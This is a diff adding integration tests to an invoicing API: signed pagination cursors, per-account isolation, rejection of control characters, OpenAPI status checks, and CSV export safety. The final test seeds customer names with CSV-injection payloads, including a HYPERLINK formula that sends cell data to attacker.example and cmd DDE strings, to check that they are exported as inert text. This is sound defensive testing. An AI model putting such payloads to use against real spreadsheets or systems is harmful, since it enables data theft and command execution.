@@ -3,10 +3,12 @@ by the CLI reach every reading service, each account reads only its own invoices
 and another account's key gets nothing from any route."""
 
 import asyncio
+import base64
 import csv
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 import uuid
@@ -21,7 +23,7 @@ from contracts.messages.common import Customer
 from contracts.messages.invoices import FinalizeInvoice, SendInvoice, UpdateInvoice, VoidInvoice
 from contracts.messages.payments import BankTransactionReceived, RecordPayment
 from tests.integration.factories import PAYEE_IBAN, configure_account, create_invoice
-from tests.integration.harness import ClockOffsets, env
+from tests.integration.harness import ClockOffsets, env, internal_url
 
 READERS = ("invoices", "payments", "numbering")
 
@@ -152,6 +154,12 @@ async def test_an_account_lists_filters_sorts_and_pages_its_invoices(books, keys
 
     assert (await read("invoices", "/v1/invoices", key, sort="customer")).status_code == 422
     assert (await read("invoices", "/v1/invoices", key, cursor="%%%")).status_code == 400
+    # A cursor continues only the list it was made for.
+    cursor = (await read("invoices", "/v1/invoices", key, sort="number", limit=1)).json()["next_cursor"]
+    assert (await read("invoices", "/v1/invoices", key, sort="number", limit=2, cursor=cursor)).status_code == 200
+    for other_list in ({"sort": "-number"}, {"sort": "due_date"}, {"sort": "number", "status": "open"}):
+        refused = await read("invoices", "/v1/invoices", key, cursor=cursor, **other_list)
+        assert refused.status_code == 400 and "not one this API gave out" in refused.json()["detail"], other_list
 
 
 async def test_one_invoice_its_flags_history_and_payments(books, keys, accounts):
@@ -182,6 +190,9 @@ async def test_one_invoice_its_flags_history_and_payments(books, keys, accounts)
 
     payments = (await read("payments", f"/v1/invoices/{books['a1']}/payments", key)).json()["data"]
     assert [(p["payment_id"], p["amount"], p["match"]) for p in payments] == [("cash-1", 10_000, "manual")]
+    # The account's own view: none of the store's bookkeeping, not its internal key.
+    assert set(payments[0]) == {"payment_id", "account_id", "invoice_id", "amount", "currency", "paid_on", "method", "match",
+                                "transaction_id", "note", "removed", "removal_reason"}
     queue = (await read("payments", "/v1/payments/unmatched", key)).json()
     assert [(t["transaction_id"], t["reason"]) for t in queue["data"]] == [("tx-a-1", "no_reference")]
     assert queue["data"][0]["reason_text"]
@@ -211,7 +222,7 @@ async def test_the_csv_export_has_a_header_and_amounts_in_major_units(books, key
 
 async def routes_of(service: str) -> list[str]:
     async with httpx.AsyncClient(timeout=10) as client:
-        document = (await client.get(url(service, "/docs/openapi.json"))).json()
+        document = (await client.get(internal_url(service, "/docs/openapi.json"))).json()
     return [path for path, operations in document["paths"].items() if "get" in operations]
 
 
@@ -275,3 +286,97 @@ async def test_a_revoked_key_is_refused_everywhere(services, accounts):
     await accepted_everywhere(created["key"], accepted=False)
     refused = await invoicing("keys", "revoke", created["key"], "--account", accounts["b"])
     assert refused.returncode == 2 and "key id" in refused.stderr
+
+
+async def test_cursors_are_signed_and_only_continue_their_accounts_list(books, keys):
+    """Any text that is not a cursor this deployment made for this account and list is 400 (it was
+    500 for `AAAA` and `%C3%A9`, and any base64 text was a page)."""
+    a, b = keys["a"]["key"], keys["b"]["key"]
+    made = (await read("invoices", "/v1/invoices", a, sort="due_date", limit=1)).json()["next_cursor"]
+    position = made.split(".")[0]
+    unsigned = base64.urlsafe_b64encode(f"2020-01-31 {books['a1']}".encode()).decode().rstrip("=")
+    for route in ("/v1/invoices", "/v1/payments/unmatched"):
+        service = "payments" if "payments" in route else "invoices"
+        for cursor in ("AAAA", "é", "%%%", unsigned, position, f"{position}.AAAA", made + "A"):
+            refused = await read(service, route, a, cursor=cursor)
+            assert refused.status_code == 400, (route, cursor, refused.text)
+            assert refused.json() == {"detail": "The cursor is not one this API gave out for this account, filter "
+                                                "and sort: ask for the first page again."}
+    # Account b with account a's cursor: refused, not a page of b's.
+    assert (await read("invoices", "/v1/invoices", b, sort="due_date", cursor=made)).status_code == 400
+    assert (await read("payments", "/v1/payments/unmatched", a, cursor=made)).status_code == 400
+
+
+async def operations(service: str) -> dict[str, dict]:
+    async with httpx.AsyncClient(timeout=10) as client:
+        document = (await client.get(internal_url(service, "/docs/openapi.json"))).json()
+    return {path: operations["get"] for path, operations in document["paths"].items()}
+
+
+async def test_invalid_text_in_any_path_or_parameter_is_422_before_any_query(books, keys):
+    """NUL, other control characters, bytes that are not UTF-8 and over-long values, on every route
+    of every service (they were 500; the export was 200 that broke off with an empty body)."""
+    key = keys["a"]["key"]
+    checked = 0
+    async with httpx.AsyncClient(timeout=10, headers={"Authorization": f"Bearer {key}"}) as client:
+        for service in READERS:
+            for route, operation in (await operations(service)).items():
+                path = route.replace("{invoice_id}", books["a1"]).replace("{number}", "INV")
+                strings = [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"
+                           and "string" in json.dumps(p["schema"])]
+                probes = [f"{path}?{name}={bad}" for name in strings for bad in ("%00", "a%0Db", "%FF", "x" * 1001)]
+                if "{" in route:
+                    probes += [route.replace("{invoice_id}", "x%00y").replace("{number}", "x%00y"),
+                               route.replace("{invoice_id}", "x%1By").replace("{number}", "x%7Fy")]
+                for probe in probes:
+                    answer = await client.get(url(service, probe))
+                    assert answer.status_code == 422, (service, probe, answer.status_code, answer.text[:200])
+                    [problem] = answer.json()["detail"]
+                    assert problem["type"] == "invalid_characters" and problem["msg"], problem
+                    checked += 1
+    assert checked >= 30
+    export = await read("invoices", "/v1/invoices/export.csv", key, customer="\x00")
+    assert export.status_code == 422 and export.headers["content-type"] == "application/json"
+
+
+async def test_every_status_a_route_answers_is_one_its_document_declares(books, keys):
+    """Each route provoked into each status it can answer on a healthy stack (503, the store away,
+    is the unit tests'): what it answers is declared, and what it declares it answers."""
+    key = keys["a"]["key"]
+    number = (await read("invoices", f"/v1/invoices/{books['a1']}", key)).json()["invoice"]["number"]
+    for service in READERS:
+        for route, operation in (await operations(service)).items():
+            declared = set(map(int, operation["responses"]))
+            names = {p["name"] for p in operation.get("parameters", [])}
+            path = route.replace("{invoice_id}", books["a1"]).replace("{number}", number)
+            answered = {
+                (await read(service, path, key)).status_code,  # 200
+                (await read(service, path, None)).status_code,  # 401
+                (await read(service, path, key, anything="\x00")).status_code,  # 422
+            }
+            if "{" in route:  # 404
+                missing = route.replace("{invoice_id}", "inv_nobodys").replace("{number}", "NOBODY-1")
+                answered.add((await read(service, missing, key)).status_code)
+            if "cursor" in names:  # 400
+                answered.add((await read(service, path, key, cursor="AAAA")).status_code)
+            assert answered <= declared, (service, route, answered - declared)
+            assert declared - {503} <= answered, (service, route, declared - {503} - answered)
+
+
+async def test_the_export_neutralises_cells_a_spreadsheet_would_run(services, producer, event_log):
+    """Customer names that start like formulas are exported as text; amounts stay numbers."""
+    account = f"acct_csv_{uuid.uuid4().hex[:8]}"
+    names = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+             "+31 Budget B.V."]
+    sent = await producer.send(configure_account(account), account_id=account)
+    await event_log.wait_for(lambda r: r.type == "account.configured" and r.headers.get("ce_correlationid") == str(sent.correlationid))
+    for n, name in enumerate(names):
+        invoice_id = f"inv_csv{n}_{uuid.uuid4().hex[:8]}"
+        await producer.send(create_invoice(invoice_id, customer=Customer(name=name)), account_id=account)
+        await event_log.wait_for_type("invoice.created", invoice_id)
+    key = (await new_key(account))["key"]
+    await accepted_everywhere(key)
+    exported = await read("invoices", "/v1/invoices/export.csv", key)
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert sorted(row["customer"] for row in rows) == sorted(f"'{name}" for name in names)
+    assert all(re.fullmatch(r"-?\d+\.\d\d", row["total"]) for row in rows)
